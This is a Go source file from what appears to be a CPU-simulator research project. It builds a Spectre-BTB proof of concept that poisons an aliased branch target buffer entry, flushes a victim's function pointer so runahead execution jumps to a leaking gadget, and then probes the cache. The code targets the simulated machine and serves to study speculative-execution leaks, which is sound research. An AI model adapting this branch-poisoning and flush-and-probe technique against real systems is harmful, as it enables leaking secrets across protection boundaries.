package attack

import (
	"specrun/internal/asm"
	"specrun/internal/cpu"
	"specrun/internal/isa"
)

// BTB aliasing geometry for the SpectreBTB PoC: with 128 sets and 4 tag
// bits, two indirect-branch PCs 4*128*16 = 8192 bytes apart share a BTB
// entry, so the attacker's own indirect call trains the prediction consulted
// by the victim's call (Fig. 4a).
const (
	btbAttackSets    = 128
	btbAttackTagBits = 4
	btbAliasDistance = 4 * btbAttackSets * (1 << btbAttackTagBits)
)

// ConfigFor returns base adjusted for the needs of the given variant: the
// BTB variant narrows the BTB tags so the aliased training lands in the
// victim's entry (real BTBs store partial tags; the default simulator
// configuration uses full tags).
func ConfigFor(v Variant, base cpu.Config) cpu.Config {
	if v == VariantBTB {
		base.Branch.BTBSets = btbAttackSets
		base.Branch.BTBTagBits = btbAttackTagBits
	}
	return base
}

// buildBTB assembles the Fig. 4a PoC.
//
// The victim makes an indirect call through a function pointer in memory
// (architecturally always &safe_fn).  The attacker repeatedly executes an
// indirect call of her own at a BTB-congruent address targeting the gadget,
// which trains the shared BTB entry.  For the attack she flushes the
// function-pointer line: the victim's pointer load becomes the stalling
// load, runahead mode begins, the indirect call has an INV target and never
// resolves (§4.4), and the machine follows the poisoned BTB prediction into
// the gadget.
func buildBTB(p Params) (*asm.Program, Layout, error) {
	b := asm.NewBuilder(0x1000, 0x100000)
	l := layoutData(b, p)
	fptr := b.Alloc("victim_fp", 64, 64)
	prologue(b, l)

	// victim_fp = &safe_fn (set up architecturally, then flushed).
	b.MoviAddr(rT2, fptr)
	b.MoviLabel(rT1, "safe_fn")
	b.St(rT2, 0, rT1)

	// Train the aliased BTB entry: the attacker's own indirect call, at a
	// PC congruent with the victim's, architecturally calls the gadget with
	// a benign argument.
	b.MoviLabel(rT3, "gadget")
	b.Movi(rArg, 1) // benign in-bounds index during training
	b.Movi(rI, int64(p.TrainingRounds))
	b.Label("btrain")
	trainCallPC := b.PC()
	b.Callr(rT3)
	b.Addi(rI, rI, -1)
	b.Bne(rI, isa.R(0), "btrain")

	// Attack: flush the probe array and the victim's function pointer, then
	// enter the victim with the malicious index.
	flushArray2(b, p, "flush_probe")
	b.MoviAddr(rFlushA, fptr)
	b.Clflush(rFlushA, 0)
	b.Fence()
	b.Movi(rArg, int64(l.MaliciousX))
	b.Call("victim")
	waitLoop(b, "wait", 600)
	probeLoop(b, p, "probe")
	b.Halt()

	// Place the victim's indirect call exactly one alias distance after the
	// training call: same BTB set, same partial tag.
	victimCallPC := trainCallPC + btbAliasDistance
	b.PadTo(victimCallPC - 2*isa.InstBytes)
	b.Label("victim")
	b.MoviAddr(rVT, fptr)
	b.Ld(rVT, rVT, 0) // stalling load: the function pointer
	b.Callr(rVT)      // INV target in runahead: follows the poisoned BTB
	b.Ret()

	b.Label("safe_fn")
	b.Ret()

	// The gadget: the Fig. 3 body behind the aliased target.
	b.Label("gadget")
	transmit(b, p)
	b.Ret()

	prog, err := b.Build()
	if err != nil {
		return nil, Layout{}, err
	}
	return prog, l, nil
}
